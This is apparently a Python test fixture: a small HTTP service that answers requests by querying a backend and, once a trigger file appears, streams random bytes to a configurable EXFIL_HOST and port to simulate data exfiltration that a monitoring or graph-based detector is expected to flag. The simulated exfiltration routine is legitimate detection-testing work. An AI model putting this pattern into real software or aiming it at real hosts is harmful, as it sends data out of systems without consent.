#!/usr/bin/env python3
"""A small service for the graph test, run under the shim:

app.py PORT BACKEND_HOST BACKEND_PORT TRIGGER EXFIL_HOST EXFIL_PORT EXFIL_BYTES

Serves HTTP on PORT; every request asks the backend (a short request, a
2 KB answer) and returns a page. Once the file TRIGGER exists it sends
EXFIL_BYTES to EXFIL_HOST:EXFIL_PORT, once (the exfiltration the test
expects to be alerted). Runs until killed.
"""
import http.server
import os
import socket
import sys
import threading
import time

port, bh, bp, trigger, eh, ep, eb = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5], int(sys.argv[6]), int(sys.argv[7])


def backend():
    s = socket.create_connection((bh, bp), timeout=5)
    s.sendall(b"Q" * 64)
    got = b""
    while len(got) < 2048:
        c = s.recv(4096)
        if not c:
            break
        got += c
    s.close()
    return len(got)


class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        n = backend()
        body = (b"backend said %d bytes\n" % n) * 20
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a):
        pass


def exfil():
    while not os.path.exists(trigger):
        time.sleep(0.1)
    s = socket.create_connection((eh, ep), timeout=10)
    chunk = os.urandom(65536)
    sent = 0
    while sent < eb:
        s.sendall(chunk)
        sent += len(chunk)
    s.close()


threading.Thread(target=exfil, daemon=True).start()
http.server.ThreadingHTTPServer(("0.0.0.0", port), H).serve_forever()
